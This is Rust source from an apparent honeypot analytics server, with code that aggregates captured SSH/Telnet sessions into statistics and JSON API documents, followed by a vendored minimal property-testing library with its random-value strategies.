            ("protocol", Json::str(self.protocol)),
            ("class", Json::str(self.class)),
            ("client_ip", Json::str(&self.client_ip)),
            ("client_port", Json::u64(u64::from(self.client_port))),
            ("start_unix", Json::i64(self.start_unix)),
            ("end_unix", Json::i64(self.end_unix)),
            ("end_reason", Json::str(self.end_reason)),
            (
                "client_version",
                match &self.client_version {
                    Some(v) => Json::str(v),
                    None => Json::Null,
                },
            ),
            ("login_attempts", Json::u64(self.login_attempts)),
            ("login_succeeded", Json::Bool(self.login_succeeded)),
            ("commands", Json::u64(self.commands)),
            ("uris", Json::u64(self.uris)),
        ])
    }
}

// --- the published snapshot ----------------------------------------------

/// SSE fan-out health, as carried in a snapshot.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct SseStats {
    /// Live `/events` subscribers.
    pub subscribers: u64,
    /// Frames lost to slow subscribers since startup.
    pub dropped_frames: u64,
}

/// The immutable document the aggregator publishes and every HTTP
/// endpoint renders from. Readers acquire it as an `Arc` through the
/// lock-free snapshot cell; a reader holding an old generation sees a
/// consistent (if slightly stale) view.
#[derive(Debug, Clone)]
pub struct ApiSnapshot {
    /// When this snapshot was published (unix seconds).
    pub now_unix: i64,
    /// When the server started (unix seconds).
    pub started_unix: i64,
    /// Serving counters at publish time.
    pub counters: StatsSnapshot,
    /// Cumulative §3.3 taxonomy over every session closed so far —
    /// byte-identical to post-hoc `analyze --report taxonomy`.
    pub taxonomy: TaxonomyStats,
    /// Top intrusion credentials so far (Fig. 10 accumulator).
    pub credentials: TopPasswords,
    /// 1m / 5m / 1h windows.
    pub windows: [WindowStats; 3],
    /// Most recent completed sessions, newest first (bounded tail).
    pub recent: Vec<SessionSummary>,
    /// SSE fan-out health.
    pub sse: SseStats,
    /// What crash recovery did to the spill store at startup; `None`
    /// without a store.
    pub recovery: Option<RecoveryReport>,
    /// Whether graceful shutdown has been triggered.
    pub shutting_down: bool,
}

impl ApiSnapshot {
    /// An empty snapshot for server start, before the first publish.
    pub fn empty(now: i64) -> Self {
        Self {
            now_unix: now,
            started_unix: now,
            counters: StatsSnapshot::default(),
            taxonomy: TaxonomyStats::default(),
            credentials: TopPasswords {
                passwords: Vec::new(),
                by_month: Default::default(),
            },
            windows: [
                WindowStats {
                    label: "1m",
                    seconds: 60,
                    ..Default::default()
                },
                WindowStats {
                    label: "5m",
                    seconds: 300,
                    ..Default::default()
                },
                WindowStats {
                    label: "1h",
                    seconds: 3600,
                    ..Default::default()
                },
            ],
            recent: Vec::new(),
            sse: SseStats::default(),
            recovery: None,
            shutting_down: false,
        }
    }

    /// Uptime at publish time.
    pub fn uptime_secs(&self) -> i64 {
        (self.now_unix - self.started_unix).max(0)
    }

    /// `GET /api/stats` document (envelope kind `"stats"`).
    pub fn stats_json(&self) -> Json {
        let body = Json::obj([
            ("now_unix", Json::i64(self.now_unix)),
            ("started_unix", Json::i64(self.started_unix)),
            ("uptime_secs", Json::i64(self.uptime_secs())),
            ("counters", self.counters.api_json()),
            (
                "taxonomy",
                honeylab_core::api::taxonomy_json(&self.taxonomy),
            ),
            (
                "windows",
                Json::arr(self.windows.iter().map(WindowStats::api_json)),
            ),
        ]);
        api_envelope("stats", body)
    }

    /// `GET /api/sessions/recent` document (kind `"sessions_recent"`).
    pub fn recent_json(&self) -> Json {
        let body = Json::obj([
            ("count", Json::u64(self.recent.len() as u64)),
            (
                "sessions",
                Json::arr(self.recent.iter().map(SessionSummary::api_json)),
            ),
        ]);
        api_envelope("sessions_recent", body)
    }

    /// `GET /api/credentials/top` document (kind `"credentials_top"`).
    pub fn credentials_json(&self) -> Json {
        api_envelope(
            "credentials_top",
            honeylab_core::api::passwords_json(&self.credentials),
        )
    }

    /// `GET /api/health` document (kind `"health"`).
    pub fn health_json(&self) -> Json {
        let c = &self.counters;
        let status = if self.shutting_down {
            "draining"
        } else if c.accept_errors > 0 || c.shards_respawned > 0 {
            "degraded"
        } else {
            "ok"
        };
        let wal = match &self.recovery {
            None => Json::Null,
            Some(r) => Json::obj([
                ("clean", Json::Bool(r.is_clean())),
                ("wal_found", Json::Bool(r.wal_found)),
                ("wal_frames", Json::u64(r.wal_frames)),
                ("wal_bytes_lost", Json::u64(r.wal_bytes_lost)),
                ("recovered_rows", Json::u64(r.recovered_rows)),
                ("tmp_removed", Json::u64(r.tmp_removed as u64)),
            ]),
        };
        let body = Json::obj([
            ("status", Json::str(status)),
            ("uptime_secs", Json::i64(self.uptime_secs())),
            ("active_connections", Json::u64(c.active as u64)),
            ("accept_errors", Json::u64(c.accept_errors)),
            ("panics_caught", Json::u64(c.panics_caught)),
            ("shards_respawned", Json::u64(c.shards_respawned)),
            (
                "sse",
                Json::obj([
                    ("subscribers", Json::u64(self.sse.subscribers)),
                    ("dropped_frames", Json::u64(self.sse.dropped_frames)),
                ]),
            ),
            ("recovery", wal),
        ]);
        api_envelope("health", body)
    }

    /// Deterministic sample snapshot backing the `docs/api_v1` goldens
    /// for the live endpoints (see `core::api::samples` for the analyze
    /// document). Fixed values only — no clocks.
    pub fn sample() -> Self {
        let mut state = AggregatorState::new(1_700_000_000, 3);
        let mut rec = sample_record(1, 1_700_000_100);
        state.push_session(&rec);
        rec.session_id = 2;
        rec.logins.clear();
        rec.commands.clear();
        rec.end = hutil::DateTime::from_unix(1_700_000_130);
        state.push_session(&rec);
        let counters = StatsSnapshot {
            accepted: 2,
            completed: 2,
            bytes_in: 4096,
            bytes_out: 16384,
            ..StatsSnapshot::default()
        };
        state.absorb_counter_deltas(1_700_000_130, &counters);
        let mut snap = state.snapshot(1_700_000_131, counters, SseStats::default());
        snap.sse = SseStats {
            subscribers: 1,
            dropped_frames: 0,
        };
        snap.recovery = Some(RecoveryReport::default());
        snap
    }
}

/// The fixed record behind [`ApiSnapshot::sample`] and the SSE golden.
pub fn sample_record(id: u64, end_unix: i64) -> SessionRecord {
    SessionRecord {
        session_id: id,
        honeypot_id: 1,
        honeypot_ip: netsim::Ipv4Addr::from_octets(100, 64, 0, 1),
        client_ip: netsim::Ipv4Addr::from_octets(203, 0, 113, 9),
        client_port: 53811,
        protocol: Protocol::Ssh,
        start: hutil::DateTime::from_unix(end_unix - 20),
        end: hutil::DateTime::from_unix(end_unix),
        end_reason: SessionEndReason::ClientClose,
        client_version: Some("SSH-2.0-libssh2_1.10.0".into()),
        logins: vec![honeypot::LoginAttempt {
            username: "root".into(),
            password: "123456".into(),
            success: true,
        }],
        commands: vec![honeypot::CommandRecord {
            input: "uname -a".into(),
            known: true,
        }],
        uris: Vec::new(),
        file_events: Vec::new(),
    }
}

/// The SSE `session` event document for one closed session.
pub fn session_event_json(summary: &SessionSummary) -> Json {
    api_envelope("session", summary.api_json())
}

/// The SSE `recovery` event document.
pub fn recovery_event_json(r: &RecoveryReport) -> Json {
    api_envelope(
        "recovery",
        Json::obj([
            ("clean", Json::Bool(r.is_clean())),
            ("wal_found", Json::Bool(r.wal_found)),
            ("wal_frames", Json::u64(r.wal_frames)),
            ("wal_bytes_lost", Json::u64(r.wal_bytes_lost)),
            ("recovered_rows", Json::u64(r.recovered_rows)),
            ("tmp_removed", Json::u64(r.tmp_removed as u64)),
        ]),
    )
}

// --- the aggregator ------------------------------------------------------

/// Pure aggregation state; the thread around it is just a channel pump.
/// Kept separate so tests can drive it with explicit clocks.
pub struct AggregatorState {
    started_unix: i64,
    taxonomy: TaxonomyAccumulator,
    credentials: TopPasswordsAccumulator,
    rings: [Ring; 3],
    recent: VecDeque<SessionSummary>,
    recent_cap: usize,
    last_admitted: u64,
    last_shed: u64,
    recovery: Option<RecoveryReport>,
    shutting_down: bool,
}

impl AggregatorState {
    /// Fresh state as of `now`, keeping a `recent_cap`-deep tail.
    pub fn new(now: i64, recent_cap: usize) -> Self {
        Self {
            started_unix: now,
            taxonomy: TaxonomyAccumulator::new(),
            credentials: TopPasswordsAccumulator::new(TOP_CREDENTIALS),
            rings: [
                Ring::new("1m", 1, 60, now),
                Ring::new("5m", 5, 60, now),
                Ring::new("1h", 60, 60, now),
            ],
            recent: VecDeque::with_capacity(recent_cap),
            recent_cap,
            last_admitted: 0,
            last_shed: 0,
            recovery: None,
            shutting_down: false,
        }
    }

    /// Folds one closed session in (accumulators, rings, recent tail)
    /// and returns its summary for SSE fan-out.
    pub fn push_session(&mut self, rec: &SessionRecord) -> SessionSummary {
        self.taxonomy.push(rec);
        self.credentials.push(rec);
        let summary = SessionSummary::of(rec);
        let now = summary.end_unix;
        let ssh = matches!(rec.protocol, Protocol::Ssh);
        let ci = class_index(SessionClass::of(rec));
        for ring in &mut self.rings {
            let b = ring.current(now);
            b.sessions += 1;
            if ssh {
                b.ssh += 1;
                b.class[ci] += 1;
            } else {
                b.telnet += 1;
            }
        }
        if self.recent.len() == self.recent_cap {
            self.recent.pop_back();
        }
        self.recent.push_front(summary.clone());
        summary
    }

    /// Records what startup recovery found.
    pub fn set_recovery(&mut self, report: RecoveryReport) {
        self.recovery = Some(report);
    }

    /// Marks the snapshot as draining.
    pub fn set_shutting_down(&mut self) {
        self.shutting_down = true;
    }

    /// Samples admission/shed counter deltas into the current buckets.
    /// Called on every tick; the accept path itself is never touched.
    pub fn absorb_counter_deltas(&mut self, now: i64, counters: &StatsSnapshot) {
        let admitted_total = counters.accepted - counters.shed_capacity - counters.shed_per_ip;
        let shed_total = counters.shed_capacity + counters.shed_per_ip;
        let d_admitted = admitted_total.saturating_sub(self.last_admitted);
        let d_shed = shed_total.saturating_sub(self.last_shed);
        self.last_admitted = admitted_total;
        self.last_shed = shed_total;
        if d_admitted == 0 && d_shed == 0 {
            // Still rotate the rings so quiet periods decay.
            for ring in &mut self.rings {
                ring.advance(now);
            }
            return;
        }
        for ring in &mut self.rings {
            let b = ring.current(now);
            b.admitted += d_admitted;
            b.shed += d_shed;
        }
    }

    /// Builds the publishable snapshot as of `now`.
    pub fn snapshot(&mut self, now: i64, counters: StatsSnapshot, sse: SseStats) -> ApiSnapshot {
        let elapsed = (now - self.started_unix).max(1);
        ApiSnapshot {
            now_unix: now,
            started_unix: self.started_unix,
            counters,
            taxonomy: self.taxonomy.snapshot(),
            credentials: self.credentials.snapshot(),
            windows: [
                self.rings[0].stats(now, elapsed),
                self.rings[1].stats(now, elapsed),
                self.rings[2].stats(now, elapsed),
            ],
            recent: self.recent.iter().cloned().collect(),
            sse,
            recovery: self.recovery.clone(),
            shutting_down: self.shutting_down,
        }
    }
}

/// Handle to a running aggregator thread.
pub struct AggregatorHandle {
    /// Event intake; clone one per shard. Dropping every sender stops
    /// the thread (after a final publish).
    pub tx: Sender<AggEvent>,
    /// The snapshot cell HTTP workers read.
    pub cell: Arc<SnapshotCell<ApiSnapshot>>,
    /// The SSE fan-out bus.
    pub bus: Arc<EventBus>,
    thread: JoinHandle<()>,
}

impl AggregatorHandle {
    /// Waits for the aggregator thread to exit (all senders dropped).
    pub fn join(self) -> std::thread::Result<()> {
        drop(self.tx);
        self.thread.join()
    }
}

/// Spawns the aggregator thread.
///
/// `stats_interval` preserves the legacy periodic stderr stats line
/// (the aggregator replaces the old dedicated stats thread); `None`
/// disables the line but not the snapshot publishing.
pub fn spawn_aggregator(
    stats: Arc<ServeStats>,
    shutdown: Arc<AtomicBool>,
    recent_cap: usize,
    stats_interval: Option<Duration>,
) -> AggregatorHandle {
    let (tx, rx) = std::sync::mpsc::channel::<AggEvent>();
    let now = now_unix();
    let (cell, publisher) = SnapshotCell::new(Arc::new(ApiSnapshot::empty(now)));
    let bus = Arc::new(EventBus::new());
    let thread = {
        let bus = Arc::clone(&bus);
        std::thread::Builder::new()
            .name("serve-aggregator".into())
            .spawn(move || {
                aggregator_loop(
                    &rx,
                    publisher,
                    &bus,
                    &stats,
                    &shutdown,
                    recent_cap,
                    stats_interval,
                )
            })
            .expect("spawn aggregator thread")
    };
    AggregatorHandle {
        tx,
        cell,
        bus,
        thread,
    }
}

fn aggregator_loop(
    rx: &Receiver<AggEvent>,
    mut publisher: SnapshotPublisher<ApiSnapshot>,
    bus: &EventBus,
    stats: &ServeStats,
    shutdown: &AtomicBool,
    recent_cap: usize,
    stats_interval: Option<Duration>,
) {
    // The wall clock is read exactly once, to anchor the epoch; every
    // subsequent "now" is the anchor plus a monotonic delta. An NTP step
    // (or a VM pause resuming with a jumped wall clock) can therefore
    // never rewind the rings or inflate uptime — window rates stay
    // correct because the deltas come from `Instant`, which the OS
    // guarantees only moves forward.
    let started_wall = now_unix();
    let started_mono = Instant::now();
    let mono_now = move || started_wall + started_mono.elapsed().as_secs() as i64;
    let mut state = AggregatorState::new(started_wall, recent_cap);
    let mut last_publish = Instant::now();
    let mut last_line = Instant::now();
    loop {
        let disconnected = match rx.recv_timeout(Duration::from_millis(50)) {
            Ok(AggEvent::Session(rec)) => {
                let summary = state.push_session(&rec);
                bus.publish(crate::sse::frame(
                    "session",
                    &session_event_json(&summary).render(),
                ));
                false
            }
            Ok(AggEvent::Recovery(report)) => {
                bus.publish(crate::sse::frame(
                    "recovery",
                    &recovery_event_json(&report).render(),
                ));
                state.set_recovery(report);
                false
            }
            Err(RecvTimeoutError::Timeout) => false,
            Err(RecvTimeoutError::Disconnected) => true,
        };
        if shutdown.load(Ordering::Relaxed) {
            state.set_shutting_down();
        }
        if disconnected || last_publish.elapsed() >= PUBLISH_TICK {
            last_publish = Instant::now();
            let now = mono_now();
            let counters = stats.snapshot();
            state.absorb_counter_deltas(now, &counters);
            let sse = SseStats {
                subscribers: bus.subscribers() as u64,
                dropped_frames: bus.dropped_frames(),
            };
            publisher.publish(Arc::new(state.snapshot(now, counters, sse)));
        }
        if let Some(interval) = stats_interval {
            if last_line.elapsed() >= interval {
                last_line = Instant::now();
                eprintln!("[serve] {}", stats.snapshot().render());
            }
        }
        if disconnected {
            return; // final snapshot above covers every ingested session
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rec_at(id: u64, end: i64, proto: Protocol, logins: usize, commands: usize) -> SessionRecord {
        let mut r = sample_record(id, end);
        r.protocol = proto;
        r.logins.truncate(logins);
        r.commands.truncate(commands);
        r
    }

    #[test]
    fn rings_window_and_decay() {
        let mut state = AggregatorState::new(1000, 8);
        // Two sessions at t=1000, one at t=1030.
        state.push_session(&rec_at(1, 1000, Protocol::Ssh, 1, 1));
        state.push_session(&rec_at(2, 1000, Protocol::Telnet, 0, 0));
        state.push_session(&rec_at(3, 1030, Protocol::Ssh, 0, 0));
        let snap = state.snapshot(1030, StatsSnapshot::default(), SseStats::default());
        let w1m = snap.windows[0];
        assert_eq!(w1m.sessions, 3);
        assert_eq!(w1m.ssh, 2);
        assert_eq!(w1m.telnet, 1);
        assert_eq!(w1m.command_execution, 1);
        assert_eq!(w1m.scanning, 1);
        // 65 seconds later the t=1000 pair fell out of the 1m window but
        // not the 5m window.
        let snap = state.snapshot(1065, StatsSnapshot::default(), SseStats::default());
        assert_eq!(snap.windows[0].sessions, 1);
        assert_eq!(snap.windows[1].sessions, 3);
        // An hour later everything decayed.
        let snap = state.snapshot(1000 + 3700, StatsSnapshot::default(), SseStats::default());
        assert_eq!(snap.windows[2].sessions, 0);
    }

    #[test]
    fn young_server_rates_use_elapsed_not_window() {
        // 20 sessions in the first 10 seconds of uptime: every window
        // must report 2.0/s, not sessions/window_secs (which would make
        // the 1h window claim 20/3600 ≈ 0.005/s).
        let mut state = AggregatorState::new(1000, 8);
        for id in 0..20 {
            state.push_session(&rec_at(id, 1005, Protocol::Ssh, 1, 1));
        }
        let snap = state.snapshot(1010, StatsSnapshot::default(), SseStats::default());
        for w in &snap.windows {
            assert_eq!(w.sessions, 20);
            assert!(
                (w.sessions_per_sec - 2.0).abs() < 1e-9,
                "{} window rate {} != 2.0",
                w.label,
                w.sessions_per_sec
            );
        }
        // Once uptime exceeds the window, the denominator is the window.
        let snap = state.snapshot(1000 + 7200, StatsSnapshot::default(), SseStats::default());
        assert_eq!(snap.windows[2].sessions, 0, "1h window decayed");
        assert_eq!(snap.windows[2].sessions_per_sec, 0.0);
    }

    #[test]
    fn snapshot_at_start_instant_never_divides_by_zero() {
        let mut state = AggregatorState::new(1000, 8);
        state.push_session(&rec_at(1, 1000, Protocol::Ssh, 1, 1));
        let snap = state.snapshot(1000, StatsSnapshot::default(), SseStats::default());
        assert!(snap.windows[0].sessions_per_sec.is_finite());
        assert!((snap.windows[0].sessions_per_sec - 1.0).abs() < 1e-9);
    }

    #[test]
    fn cumulative_taxonomy_matches_core_accumulator() {
        let recs = [
            rec_at(1, 1000, Protocol::Ssh, 1, 1),
            rec_at(2, 1001, Protocol::Ssh, 1, 0),
            rec_at(3, 1002, Protocol::Ssh, 0, 0),
            rec_at(4, 1003, Protocol::Telnet, 0, 0),
        ];
        let mut state = AggregatorState::new(1000, 8);
        let mut oracle = TaxonomyAccumulator::new();
        for r in &recs {
            state.push_session(r);
            oracle.push(r);
        }
        let snap = state.snapshot(1004, StatsSnapshot::default(), SseStats::default());
        assert_eq!(snap.taxonomy, oracle.finish());
    }

    #[test]
    fn counter_deltas_land_in_windows() {
        let mut state = AggregatorState::new(1000, 8);
        let mut counters = StatsSnapshot {
            accepted: 10,
            shed_capacity: 2,
            ..StatsSnapshot::default()
        };
        state.absorb_counter_deltas(1001, &counters);
        counters.accepted = 15;
        counters.shed_per_ip = 3;
        state.absorb_counter_deltas(1002, &counters);
        let snap = state.snapshot(1002, counters, SseStats::default());
        assert_eq!(snap.windows[0].admitted, 10); // 15 accepted - 5 shed
        assert_eq!(snap.windows[0].shed, 5);
        // Deltas are exactly-once: re-absorbing the same totals adds 0.
        state.absorb_counter_deltas(1003, &counters);
        let snap = state.snapshot(1003, counters, SseStats::default());
        assert_eq!(snap.windows[0].admitted, 10);
    }

    #[test]
    fn recent_tail_is_bounded_and_newest_first() {
        let mut state = AggregatorState::new(1000, 3);
        for id in 1..=5 {
            state.push_session(&rec_at(id, 1000 + id as i64, Protocol::Ssh, 1, 1));
        }
        let snap = state.snapshot(1010, StatsSnapshot::default(), SseStats::default());
        let ids: Vec<u64> = snap.recent.iter().map(|s| s.session_id).collect();
        assert_eq!(ids, vec![5, 4, 3]);
    }

    #[test]
    fn sample_snapshot_documents_are_valid_v1() {
        let snap = ApiSnapshot::sample();
        for doc in [
            snap.stats_json(),
            snap.recent_json(),
            snap.credentials_json(),
            snap.health_json(),
        ] {
            assert_eq!(
                doc.get("honeylab_api").and_then(Json::as_str),
                Some(hutil::API_VERSION)
            );
            assert_eq!(Json::parse(&doc.pretty()).unwrap(), doc);
        }
        let stats = snap.stats_json();
        let data = stats.get("data").unwrap();
        assert_eq!(
            data.get("taxonomy")
                .and_then(|t| t.get("total_sessions"))
                .and_then(Json::as_i64),
            Some(2)
        );
        let health = snap.health_json();
        assert_eq!(
            health
                .get("data")
                .and_then(|d| d.get("status"))
                .and_then(Json::as_str),
            Some("ok")
        );
    }

    #[test]
    fn aggregator_thread_publishes_and_exits() {
        let stats = Arc::new(ServeStats::default());
        let shutdown = Arc::new(AtomicBool::new(false));
        let handle = spawn_aggregator(Arc::clone(&stats), shutdown, 8, None);
        let sub = handle.bus.subscribe();
        handle
            .tx
            .send(AggEvent::Session(Box::new(sample_record(7, now_unix()))))
            .unwrap();
        // The final publish on disconnect folds the session in.
        let cell = Arc::clone(&handle.cell);
        handle.join().unwrap();
        let snap = cell.load();
        assert_eq!(snap.taxonomy.total_sessions, 1);
        assert_eq!(snap.recent[0].session_id, 7);
        let frame = sub.try_next().expect("session frame fanned out");
        assert!(frame.starts_with("event: session\n"));
    }
}
