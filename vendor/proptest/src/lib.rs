//! Vendored minimal stand-in for `proptest`.
//!
//! Implements the subset this workspace's property tests use:
//!
//! * the [`proptest!`] macro generating `#[test]` functions that run a
//!   configurable number of randomized cases (default 256, overridable via
//!   `PROPTEST_CASES`);
//! * [`Strategy`] with `prop_map`, implemented for integer/f64 ranges and
//!   for string literals interpreted as a regex subset (`[class]{m,n}`,
//!   `.{m,n}`, literals);
//! * `collection::vec`, `sample::select`, `string::string_regex`,
//!   [`any`] for primitives and `[u8; 32]`;
//! * `prop_assert!` / `prop_assert_eq!` / `prop_assert_ne!`.
//!
//! Unlike upstream there is **no shrinking**: a failing case panics with its
//! seed and case number, which together with the deterministic per-test RNG
//! stream is enough to reproduce it.

use rand::rngs::StdRng;
use rand::Rng;

pub mod prelude {
    pub use crate::{any, prop_assert, prop_assert_eq, prop_assert_ne, proptest, Strategy};
}

/// Number of cases each property runs (env `PROPTEST_CASES`, default 256).
pub fn cases() -> usize {
    std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(256)
}

/// Deterministic RNG for one (test, case) pair.
pub fn case_rng(test_name: &str, case: u64) -> StdRng {
    // FNV-1a over the test path keeps streams distinct between tests.
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in test_name.bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x0000_0100_0000_01B3);
    }
    rand::SeedableRng::seed_from_u64(h ^ case.wrapping_mul(0x9E37_79B9_7F4A_7C15))
}

/// Failure raised by the `prop_assert*` macros; carries the message shown
/// when the enclosing case panics.
#[derive(Debug)]
pub struct TestCaseError {
    message: String,
}

impl TestCaseError {
    pub fn fail(message: String) -> Self {
        Self { message }
    }
}

impl std::fmt::Display for TestCaseError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.message)
    }
}

/// A generator of random values of type `Value`.
pub trait Strategy {
    type Value;

    fn generate(&self, rng: &mut StdRng) -> Self::Value;

    fn prop_map<O, F>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> O,
    {
        Map { inner: self, f }
    }
}

impl<S: Strategy + ?Sized> Strategy for &S {
    type Value = S::Value;
    fn generate(&self, rng: &mut StdRng) -> Self::Value {
        (**self).generate(rng)
    }
}

/// Output of [`Strategy::prop_map`].
pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S, F, O> Strategy for Map<S, F>
where
    S: Strategy,
    F: Fn(S::Value) -> O,
{
    type Value = O;
    fn generate(&self, rng: &mut StdRng) -> O {
        (self.f)(self.inner.generate(rng))
    }
}

// ------------------------------------------------------------------ any

/// Types with a canonical "any value" strategy.
pub trait Arbitrary: Sized {
    fn arbitrary(rng: &mut StdRng) -> Self;
}

macro_rules! impl_arbitrary_int {
    ($($t:ty),+) => {$(
        impl Arbitrary for $t {
            fn arbitrary(rng: &mut StdRng) -> Self {
                rng.random::<u64>() as $t
            }
        }
    )+};
}

impl_arbitrary_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Arbitrary for bool {
    fn arbitrary(rng: &mut StdRng) -> Self {
        rng.random::<u64>() & 1 == 1
    }
}

impl Arbitrary for f64 {
    fn arbitrary(rng: &mut StdRng) -> Self {
        rng.random::<f64>()
    }
}

impl<const N: usize> Arbitrary for [u8; N] {
    fn arbitrary(rng: &mut StdRng) -> Self {
        let mut out = [0u8; N];
        for b in out.iter_mut() {
            *b = rng.random_range(0..=u8::MAX);
        }
        out
    }
}

/// Strategy over every value of `T`.
pub struct Any<T>(std::marker::PhantomData<T>);

pub fn any<T: Arbitrary>() -> Any<T> {
    Any(std::marker::PhantomData)
}

impl<T: Arbitrary> Strategy for Any<T> {
    type Value = T;
    fn generate(&self, rng: &mut StdRng) -> T {
        T::arbitrary(rng)
    }
}

// --------------------------------------------------------------- ranges

impl<T> Strategy for std::ops::Range<T>
where
    std::ops::Range<T>: rand::SampleRange<T> + Clone,
{
    type Value = T;
    fn generate(&self, rng: &mut StdRng) -> T {
        rng.random_range(self.clone())
    }
}

impl<T> Strategy for std::ops::RangeInclusive<T>
where
    std::ops::RangeInclusive<T>: rand::SampleRange<T> + Clone,
{
    type Value = T;
    fn generate(&self, rng: &mut StdRng) -> T {
        rng.random_range(self.clone())
    }
}

// ---------------------------------------------------------- collections

pub mod collection {
    use super::{StdRng, Strategy};
    use rand::Rng;

    /// Size bound for generated collections (from `lo..hi` / `lo..=hi`).
    #[derive(Debug, Clone, Copy)]
    pub struct SizeRange {
        lo: usize,
        hi_incl: usize,
    }

    impl From<std::ops::Range<usize>> for SizeRange {
        fn from(r: std::ops::Range<usize>) -> Self {
            assert!(r.start < r.end, "empty size range");
            Self {
                lo: r.start,
                hi_incl: r.end - 1,
            }
        }
    }

    impl From<std::ops::RangeInclusive<usize>> for SizeRange {
        fn from(r: std::ops::RangeInclusive<usize>) -> Self {
            Self {
                lo: *r.start(),
                hi_incl: *r.end(),
            }
        }
    }

    pub struct VecStrategy<S> {
        elem: S,
        size: SizeRange,
    }

    pub fn vec<S: Strategy>(elem: S, size: impl Into<SizeRange>) -> VecStrategy<S> {
        VecStrategy {
            elem,
            size: size.into(),
        }
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;
        fn generate(&self, rng: &mut StdRng) -> Vec<S::Value> {
            let n = rng.random_range(self.size.lo..=self.size.hi_incl);
            (0..n).map(|_| self.elem.generate(rng)).collect()
        }
    }
}

pub mod sample {
    use super::{StdRng, Strategy};
    use rand::Rng;

    pub struct Select<T> {
        options: Vec<T>,
    }

    /// Uniformly selects one of the given options per case.
    pub fn select<T: Clone>(options: Vec<T>) -> Select<T> {
        assert!(!options.is_empty(), "select requires at least one option");
        Select { options }
    }

    impl<T: Clone> Strategy for Select<T> {
        type Value = T;
        fn generate(&self, rng: &mut StdRng) -> T {
            self.options[rng.random_range(0..self.options.len())].clone()
        }
    }
}

// -------------------------------------------------------------- strings

pub mod string {
    use super::{StdRng, Strategy};
    use rand::Rng;

    /// Error for patterns outside the supported regex subset.
    #[derive(Debug)]
    pub struct Error(String);

    impl std::fmt::Display for Error {
        fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
            write!(f, "unsupported generator pattern: {}", self.0)
        }
    }

    /// One pattern atom with its repetition bounds.
    #[derive(Debug, Clone)]
    struct Atom {
        chars: CharSet,
        min: usize,
        max: usize,
    }

    #[derive(Debug, Clone)]
    enum CharSet {
        /// `.` — any printable char (mostly ASCII, occasionally multibyte
        /// to exercise UTF-8 handling, never a newline).
        Dot,
        /// An explicit character class.
        Chars(Vec<char>),
    }

    /// Strategy generating strings matching a supported regex subset.
    #[derive(Debug, Clone)]
    pub struct RegexGeneratorStrategy {
        atoms: Vec<Atom>,
    }

    /// Compiles `pattern` (a subset of regex: literals, `.`, `[classes]`,
    /// `{m}` / `{m,n}` repetition) into a string strategy.
    pub fn string_regex(pattern: &str) -> Result<RegexGeneratorStrategy, Error> {
        let mut atoms = Vec::new();
        let mut it = pattern.chars().peekable();
        while let Some(c) = it.next() {
            let chars = match c {
                '.' => CharSet::Dot,
                '[' => CharSet::Chars(parse_class(&mut it, pattern)?),
                '\\' => {
                    let esc = it.next().ok_or_else(|| Error(pattern.to_string()))?;
                    CharSet::Chars(vec![esc])
                }
                '{' | '}' | '*' | '+' | '?' | '(' | ')' | '|' | '^' | '$' => {
                    return Err(Error(pattern.to_string()))
                }
                lit => CharSet::Chars(vec![lit]),
            };
            let (min, max) = parse_repeat(&mut it, pattern)?;
            atoms.push(Atom { chars, min, max });
        }
        Ok(RegexGeneratorStrategy { atoms })
    }

    fn parse_class(
        it: &mut std::iter::Peekable<std::str::Chars<'_>>,
        pattern: &str,
    ) -> Result<Vec<char>, Error> {
        let mut out = Vec::new();
        let mut prev: Option<char> = None;
        loop {
            let c = it.next().ok_or_else(|| Error(pattern.to_string()))?;
            match c {
                ']' => break,
                '-' => {
                    // Range if we have a left end and a right end follows;
                    // otherwise a literal dash.
                    match (prev, it.peek()) {
                        (Some(lo), Some(&hi)) if hi != ']' => {
                            it.next();
                            if lo as u32 > hi as u32 {
                                return Err(Error(pattern.to_string()));
                            }
                            for cp in (lo as u32 + 1)..=(hi as u32) {
                                if let Some(ch) = char::from_u32(cp) {
                                    out.push(ch);
                                }
                            }
                            prev = None;
                        }
                        _ => {
                            out.push('-');
                            prev = Some('-');
                        }
                    }
                }
                other => {
                    out.push(other);
                    prev = Some(other);
                }
            }
        }
        if out.is_empty() {
            return Err(Error(pattern.to_string()));
        }
        Ok(out)
    }

    fn parse_repeat(
        it: &mut std::iter::Peekable<std::str::Chars<'_>>,
        pattern: &str,
    ) -> Result<(usize, usize), Error> {
        if it.peek() != Some(&'{') {
            return Ok((1, 1));
        }
        it.next();
        let mut spec = String::new();
        loop {
            match it.next() {
                Some('}') => break,
                Some(c) => spec.push(c),
                None => return Err(Error(pattern.to_string())),
            }
        }
        let parts: Vec<&str> = spec.split(',').collect();
        let parse = |s: &str| {
            s.trim()
                .parse::<usize>()
                .map_err(|_| Error(pattern.to_string()))
        };
        match parts.as_slice() {
            [n] => {
                let n = parse(n)?;
                Ok((n, n))
            }
            [lo, hi] => {
                let (lo, hi) = (parse(lo)?, parse(hi)?);
                if lo > hi {
                    return Err(Error(pattern.to_string()));
                }
                Ok((lo, hi))
            }
            _ => Err(Error(pattern.to_string())),
        }
    }

    /// Occasional non-ASCII choices for `.` so UTF-8 paths get exercised.
    const WIDE: [char; 6] = ['é', 'ß', 'λ', '中', '✓', '🦀'];

    impl Strategy for RegexGeneratorStrategy {
        type Value = String;
        fn generate(&self, rng: &mut StdRng) -> String {
            let mut out = String::new();
            for atom in &self.atoms {
                let n = rng.random_range(atom.min..=atom.max);
                for _ in 0..n {
                    match &atom.chars {
                        CharSet::Dot => {
                            if rng.random_range(0..16usize) == 0 {
                                out.push(WIDE[rng.random_range(0..WIDE.len())]);
                            } else {
                                out.push(
                                    rng.random_range(0x20u32..=0x7E)
                                        .try_into()
                                        .expect("printable ascii"),
                                );
                            }
                        }
                        CharSet::Chars(set) => {
                            out.push(set[rng.random_range(0..set.len())]);
                        }
                    }
                }
            }
            out
